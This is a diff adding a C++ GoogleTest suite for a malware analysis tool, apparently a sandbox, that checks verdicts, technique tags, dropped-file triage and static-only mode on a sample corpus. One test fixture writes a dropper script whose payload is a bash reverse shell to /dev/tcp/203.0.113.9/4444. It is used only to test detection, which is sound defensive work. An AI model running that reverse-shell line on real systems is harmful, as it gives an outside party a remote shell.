@@ -1,0 +1,100 @@
+// airlock analyze on a corpus of harmless samples that behave like malware, and benign hard
+// negatives, with the expected verdicts and techniques in tests/samples/analyze/expected.json.
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <nlohmann/json.hpp>
+
+#include <filesystem>
+
+#include "test_env.h"
+
+using namespace airlock::test;
+namespace fs = std::filesystem;
+
+namespace {
+
+class AnalyzeCorpus : public ::testing::TestWithParam<std::string> {};
+
+std::string SamplesDir() { return SourceDir() + "/tests/samples/analyze"; }
+
+nlohmann::json Expected() { return nlohmann::json::parse(ReadFileOrEmpty(SamplesDir() + "/expected.json")); }
+
+std::vector<std::string> SampleNames() {
+  std::vector<std::string> names;
+  const nlohmann::json expected = Expected();
+  for (auto it = expected.begin(); it != expected.end(); ++it) names.push_back(it.key());
+  return names;
+}
+
+}  // namespace
+
+TEST_P(AnalyzeCorpus, VerdictAndTechniques) {
+  const std::string name = GetParam();
+  auto exp = Expected()[name];
+  std::string out = MakeTempDir("analyze");
+  // Stage the sample where the (possibly unprivileged) test user can read it.
+  std::string sample = out + "/" + name;
+  WriteFile(sample, ReadFileOrEmpty(SamplesDir() + "/" + name), 0755);
+  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "20s", "--out", out + "/report", sample}, "", 180);
+  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
+  std::string verdict = report["verdict"];
+  bool ok = false;
+  for (const auto& v : exp["verdict"]) ok |= v == verdict;
+  EXPECT_TRUE(ok) << name << " gave " << verdict << " score " << report["score"] << "\n" << r.out << r.err;
+  int want_exit = verdict == "malicious" ? 1 : verdict == "suspicious" ? 3 : 0;
+  EXPECT_EQ(r.exit_code, want_exit) << r.err;
+  if (exp.contains("techniques_any")) {
+    bool any = false;
+    for (const auto& t : report["techniques"])
+      for (const auto& w : exp["techniques_any"]) any |= t == w;
+    EXPECT_TRUE(any) << name << ": techniques " << report["techniques"].dump();
+  }
+  EXPECT_EQ(report["run"]["reason"], "ok") << report["run"].dump();
+  EXPECT_GT(report["behavior"]["events"].get<int>(), 0);
+  std::string html = ReadFileOrEmpty(out + "/report/report.html");
+  EXPECT_NE(html.find("<h2>Process tree</h2>"), std::string::npos);
+  EXPECT_NE(html.find(verdict), std::string::npos);
+  EXPECT_EQ(html.find("<script"), std::string::npos) << "the HTML report must be static";
+  fs::remove_all(out);
+}
+
+INSTANTIATE_TEST_SUITE_P(Samples, AnalyzeCorpus, ::testing::ValuesIn(SampleNames()),
+                         [](const ::testing::TestParamInfo<std::string>& p) {
+                           std::string n = p.param;
+                           for (char& c : n)
+                             if (!isalnum(static_cast<unsigned char>(c))) c = '_';
+                           return n;
+                         });
+
+TEST(Analyze, DroppedFilesAreCollectedAndTriaged) {
+  std::string out = MakeTempDir("analyze-drop");
+  std::string sample = out + "/drop.sh";
+  WriteFile(sample, "#!/bin/sh\nprintf '#!/bin/sh\\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\\n' > /tmp/stage2.sh\n", 0755);
+  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/report", sample}, "", 180);
+  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
+  bool found = false;
+  for (const auto& d : report["dropped"]) {
+    if (d["path"] == "/tmp/stage2.sh") {
+      found = true;
+      EXPECT_EQ(d["verdict"], "malicious") << d.dump();
+      EXPECT_EQ(d["sha256"].get<std::string>().size(), 64u);
+    }
+  }
+  EXPECT_TRUE(found) << report["dropped"].dump() << r.err;
+  EXPECT_EQ(report["verdict"], "malicious");
+  fs::remove_all(out);
+}
+
+TEST(Analyze, NoRunnerMeansStaticOnlyAndSaysSo) {
+  std::string out = MakeTempDir("analyze-static");
+  std::string sample = out + "/notes.txt";
+  WriteFile(sample, "just some text\n", 0644);
+  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/report", sample}, "", 120);
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
+  EXPECT_EQ(report["runner"]["kind"], "none");
+  EXPECT_NE(report["runner"]["why"].get<std::string>().find("static analysis only"), std::string::npos);
+  EXPECT_EQ(report["verdict"], "clean");
+  fs::remove_all(out);
+}
